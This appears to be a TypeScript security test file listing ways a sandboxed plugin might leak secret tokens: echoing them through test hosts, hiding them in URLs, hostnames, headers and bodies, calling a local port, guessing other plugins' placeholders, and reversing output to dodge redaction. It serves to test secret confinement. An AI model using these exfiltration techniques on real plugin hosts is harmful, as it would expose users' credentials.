import type { Attempt } from "../support/attempt.ts";

const sent = (path: string) =>
  `(await given.context.fetch(given.options.echo + "${path}", { headers: { "x-token": String(given.options.token) } }))`;
const asNode = (path: string) => `(await given.call.fetch(given.call.node.baseUrl + "${path}"))`;
const readAll = (answer: string) =>
  `await (async (answer) => JSON.stringify([answer.status, answer.headers, answer.url, await answer.text()]))(${answer})`;
const paths = [
  "/body",
  "/json",
  "/head",
  "/reason",
  "/error",
  "/denied",
  "/base64",
  "/inside-base64",
  "/hex",
  "/escaped",
  "/form",
  "/packed",
  "/moved",
  "/pieces",
];

/** A secret of its own options, which the host puts in: out of the host that it went to, back to the plugin. */
const echoes: readonly Attempt[] = paths.flatMap((path) => [
  { name: `its own, said back by a host that may have it: ${path}`, code: readAll(sent(path)) },
  { name: `the node's, said back by the node: ${path}`, code: readAll(asNode(path)) },
]);

const placed = (what: string, url: string, init: string): Attempt => ({
  name: `its own, put ${what}`,
  code: `await (async () => { const key = String(given.options.token); return await (await given.context.fetch(${url}, ${init})).text(); })()`,
});

const places: readonly Attempt[] = [
  placed("into the path of an address", `given.options.echo + "/" + encodeURIComponent(key)`, "{}"),
  placed("into a query that was not declared", `given.options.echo + "/body?other=" + encodeURIComponent(key)`, "{}"),
  placed("into the name of a query", `given.options.echo + "/body?" + encodeURIComponent(key) + "=1"`, "{}"),
  placed("into the part behind #", `given.options.echo + "/body#" + key`, "{}"),
  placed("into a host's name", `"https://" + key.replace(/[^a-z0-9]/g, "-") + ".elsewhere.test/"`, "{}"),
  placed(
    "into a user's name",
    `given.options.echo.replace("http://", "http://" + encodeURIComponent(key) + "@") + "/body"`,
    "{}",
  ),
  placed("into a body", `given.options.echo + "/body"`, `{ method: "POST", body: key }`),
  placed(
    "into a body of bytes",
    `given.options.echo + "/body"`,
    `{ method: "POST", body: new TextEncoder().encode(key) }`,
  ),
  placed("into JSON", `given.options.echo + "/body"`, `{ json: { a: [key, { [key]: key }] } }`),
  placed("into another header", `given.options.echo + "/body"`, `{ headers: { "x-other": key } }`),
  placed(
    "into a header's name",
    `given.options.echo + "/body"`,
    `{ headers: { [key.replace(/[^a-z0-9]/g, "")]: "1", ["a" + key]: "1" } }`,
  ),
  placed(
    "into a header of another case, twice",
    `given.options.echo + "/body"`,
    `{ headers: { "X-TOKEN": key, "x-Token": key + key } }`,
  ),
  placed(
    "into a call to another host",
    `"http://127.0.0.1:" + given.options.tcpPort + "/"`,
    `{ headers: { "x-token": key } }`,
  ),
  placed(
    "into a call to another host that may be reached",
    `given.options.plainHost + "/body"`,
    `{ headers: { "x-token": key } }`,
  ),
  placed(
    "into a header with another scheme",
    `given.options.echo.replace("http:", "https:") + "/body"`,
    `{ headers: { "x-token": key } }`,
  ),
  placed(
    "into pieces",
    `given.options.echo + "/body"`,
    `{ headers: { "x-a": key.slice(0, 20), "x-b": key.slice(20) }, json: [...key] }`,
  ),
  {
    name: "its own, put into a call to the node",
    code: `(await (await given.call.fetch(given.call.node.baseUrl + "/body", { headers: { "x-token": String(given.options.token) } })).text())`,
  },
];

const others: readonly Attempt[] = [
  {
    name: "another plugin's, by its placeholder",
    code: `(await (await given.context.fetch(given.options.echo + "/body", { headers: { "x-token": given.options.foreign } })).text())`,
  },
  {
    name: "another plugin's, by a call to the node",
    code: `(await (await given.call.fetch(given.call.node.baseUrl + "/body", { headers: { "x-token": given.options.foreign } })).text())`,
  },
  {
    name: "another plugin's, by a guess",
    code: `await firstOf(Array.from({ length: 64 }, (_, at) => at.toString(16).padStart(32, "0")), async (mark) => (await given.context.fetch(given.options.echo + "/body", { headers: { "x-token": "[secret:" + mark + "]" } })).text())`,
  },
  { name: "by what the context reveals", code: `JSON.stringify(given.context.reveal(given.options.token))` },
  { name: "by a folder of the host's", code: `(await given.context.dataDir())` },
  {
    name: "by what the object holds",
    code: `JSON.stringify([Reflect.ownKeys(given.options.token).map((key) => [String(key), String(given.options.token[key])]), Object.getOwnPropertyNames(Object.getPrototypeOf(given.options.token)), given.options.token.toJSON?.(), given.options.token.source])`,
  },
  {
    name: "the node's, in what a call holds",
    code: `JSON.stringify([given.call, given.call.node, given.call.request, Object.keys(given.call)])`,
  },
  {
    name: "the node's, by a call to another host",
    code: `(await (await given.call.fetch("http://127.0.0.1:" + given.options.tcpPort + "/")).text())`,
  },
  {
    name: "the node's, by a port of the node's host",
    code: `(await (await given.call.fetch(given.options.plainHost + "/body")).text())`,
  },
  {
    name: "the node's, by TRACE",
    code: `(await (await given.call.fetch(given.call.node.baseUrl + "/body", { method: "TRACE" })).text())`,
  },
  {
    name: "the node's, left with its host and read by another call",
    code: `(await (await given.call.fetch(given.call.node.baseUrl + "/none")).text(), await (await given.context.fetch(given.options.echo + "/before")).text())`,
  },
  {
    name: "its own, left with its host and read by a call to the node",
    code: `(${sent("/none")}, await (await given.call.fetch(given.call.node.baseUrl + "/before")).text())`,
  },
  {
    name: "the node's, by a signature of nothing",
    code: `JSON.stringify([await given.call.sign({ algorithm: "hmac-sha256", data: "" }), await failed(() => given.call.sign({ algorithm: "none", data: "" }))])`,
  },
  {
    name: "in an exception of the host's",
    code: `JSON.stringify([String((await failed(() => given.call.fetch(given.call.node.baseUrl + "/split-headers").then(() => given.call.fetch("none:")))).message), String((await failed(() => given.context.fetch(given.options.echo.replace(/:\\d+$/, ":1"), { headers: { "x-token": String(given.options.token) } }))).stack)])`,
  },
];

/** Ways by which what was got would leave. */
const ways: readonly Attempt[] = [
  {
    name: "kept in its store",
    code: `(await given.context.kv.set("loot", await ${sent("/body")}.text()), JSON.stringify(await given.context.kv.get("loot")))`,
  },
  {
    name: "written to the log",
    code: `(given.context.log.error(await ${sent("/body")}.text(), { loot: await ${asNode("/body")}.text() }), console.error(String(given.options.token)), "logged")`,
  },
  {
    name: "thrown as an error",
    code: `await (async () => { throw Object.assign(new Error(await ${asNode("/body")}.text()), { code: "upstream-failed" }); })()`,
  },
];

/** Told backwards, so that nothing on the way to the client takes it out again: what the plugin holds is what counts. */
const backwards = ({ name, code }: Attempt): Attempt => ({
  name,
  code: `await (async () => {
    const told = await (async () => (${code}))().catch((error) => "failed: " + error.message);
    return [...String(told)].toReversed().join("");
  })()`,
});

export const secretAttempts: readonly Attempt[] = [...echoes, ...places, ...others, ...ways].map(backwards);
